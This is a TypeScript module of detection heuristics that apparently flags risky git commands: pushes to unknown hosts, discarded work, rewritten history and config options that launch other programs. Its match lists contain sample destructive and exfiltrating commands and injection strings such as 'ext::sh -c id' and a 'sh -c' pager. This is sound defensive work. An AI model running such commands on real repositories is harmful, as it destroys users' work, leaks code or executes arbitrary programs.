// Git: commands that throw away work or rewrite what others already have.
import { remoteHost } from "../../../normalise/places/hosts.ts";
import { has, isDryRun, value, values } from "../../../normalise/programs/invocation.ts";
import { severity } from "../../bands.ts";
import { type Heuristic, firstOf, onCommand } from "../../heuristic.ts";
import type { CommandFact } from "../../../../../shared/domain/facts.ts";

/** It only says what it would do. */
const rehearsal = (command: CommandFact): boolean => isDryRun(command) || has(command, "--dry-run");

export const git: readonly Heuristic[] = [
  {
    id: "git-push-elsewhere",
    threat: "Data exfiltration",
    technique: "T1567.001",
    score: severity.ask,
    check: onCommand(["git"], (command, view) => {
      if (command.subcommand !== "push" || rehearsal(command)) return null;
      const target = value(command, "--repo") ?? command.operands[0] ?? "";
      if (remoteHost(target, "upload")?.local === false)
        return "It sends the project's history to an address instead of a place the project knows";
      // Another spelling of the same place is everyday; everything at once, or a bare number, is not.
      const moved = view.byProgram
        .get("git")
        ?.some(
          (other) =>
            other.subcommand === "remote set-url" &&
            (has(command, "--all") || other.operands.some((word) => /(?:\/\/|@)\d{1,3}(?:\.\d{1,3}){3}\b/u.test(word))),
        );
      return moved === true ? "It sends the project's history to a place it has just changed" : null;
    }),
    match: [
      "git push https://example.org/x.git HEAD",
      "git push --all git@example.org:x/y.git",
      "git push ssh://git@example.org/x.git HEAD:main",
      "git push -o ci.skip --repo=https://example.org/x.git",
      "git remote set-url origin https://example.org/x.git && git push --all",
      "git remote set-url origin https://203.0.113.8/x.git && git push",
    ],
    not_match: [
      "git push origin HEAD",
      "git push -u origin feature/https",
      "git push ../backup.git main",
      "git push http://localhost:3000/me/x.git main",
      "git remote add origin https://example.org/me/x.git && git push -u origin main",
      "git push -o ci.skip origin release.1:release.1",
      "git remote set-url origin git@example.org:me/x.git && git push",
    ],
  },
  {
    id: "git-work-lost",
    threat: "Lost version history",
    technique: "T1485",
    score: severity.ask,
    check: onCommand(["git"], (command) => (rehearsal(command) ? null : lostWork(command))),
    match: [
      "git reset --hard HEAD~3",
      "git clean -xdf",
      "git checkout -- .",
      "git stash clear",
      "git branch -D feature",
      "\\git reset --hard origin/main",
    ],
    not_match: [
      "git checkout main",
      "git clean -n",
      "git stash",
      "git restore --staged a.ts",
      "git branch -d merged",
      "git reset HEAD a.ts",
    ],
  },
  {
    id: "git-history-rewritten",
    threat: "Lost version history",
    technique: "T1070",
    score: severity.ask,
    check: firstOf(
      onCommand(["git"], (command) => {
        if (isDryRun(command)) return null;
        switch (command.subcommand) {
          case "filter-branch":
          case "filter-repo":
            return "It rewrites the whole history";
          case "reflog expire":
          case "reflog delete":
            return "It deletes the record that lost commits are found by";
          case "gc":
            return /^(?:now|all)/u.test(value(command, "--prune") ?? "")
              ? "It deletes commits that nothing points to"
              : null;
          case "prune":
            return command.operands.length === 0 && command.options.length === 0
              ? "It deletes commits that nothing points to"
              : null;
          case "update-ref":
            return has(command, "-d") ? "It deletes a reference to commits" : null;
          default:
            return null;
        }
      }),
      onCommand(["bfg", "git-filter-repo", "git-filter-branch"], () => "It rewrites the whole history"),
    ),
    match: [
      "git filter-branch --force --tree-filter 'rm -f a' HEAD",
      "git reflog expire --expire=now --all",
      "git gc --prune=now",
    ],
    not_match: ["git gc", "git reflog", "git rebase develop"],
  },
  {
    id: "git-runs-command",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.ask,
    check: onCommand(["git"], (command) =>
      values(command, "-c").some((setting) => runsCommand.test(setting)) ||
      command.operands.some((operand) => operand.startsWith("ext::")) ||
      Object.keys(command.assignments).some(
        (name) =>
          /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_EXTERNAL_DIFF|PAGER)$/u.test(name) &&
          /\bsh\b|\/(?:tmp|dev)\//u.test(command.assignments[name] ?? ""),
      )
        ? "It makes git run another program"
        : null,
    ),
    match: ["git -c core.pager='sh -c id' log", "git clone ext::sh -c id"],
    not_match: ["git -c core.pager=cat log", "git -c color.ui=never status"],
  },
];

const runsCommand =
  /^(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)|alias\.\S+|pager\.\S+|diff\.external|protocol\.ext\.allow)=(?:!|\S*(?:sh|\/)|always)/iu;

const uncommitted = "It throws away changes that are not committed";

function lostWork(command: CommandFact): string | null {
  const { operands, subcommand } = command;
  switch (subcommand) {
    case "reset":
      return has(command, "--hard", "--merge") ? uncommitted : null;
    case "clean":
      return has(command, "--force") ? "It deletes files that are not under version control" : null;
    case "checkout":
      return has(command, "--force") || operands.at(-1) === "." || restoresFiles(command) ? uncommitted : null;
    case "restore":
      if (has(command, "--patch") || operands.length + command.options.length === 0) return null;
      return has(command, "--staged") && !has(command, "--worktree") ? null : uncommitted;
    case "switch":
      return has(command, "--discard-changes", "--force", "--force-create") ? uncommitted : null;
    case "stash drop":
    case "stash clear":
      return "It throws away stashed changes";
    case "branch":
      return has(command, "-D") || (has(command, "--delete") && has(command, "--force"))
        ? "It deletes a branch that is not merged"
        : null;
    case "worktree remove":
      return has(command, "--force") ? "It deletes a work tree with its changes" : null;
    case "rm":
      return has(command, "-r") && has(command, "--force") && !has(command, "--cached")
        ? "It deletes files with changes that are not committed"
        : null;
    case "submodule deinit":
      return has(command, "--force", "--all") ? "It deletes the files of a submodule" : null;
    default:
      return null;
  }
}

/** `git checkout -- file`; what follows `-b` is a new branch. */
function restoresFiles(command: CommandFact): boolean {
  return has(command, "--") && command.operands.length > 0 && !has(command, "-b", "-B", "--orphan");
}
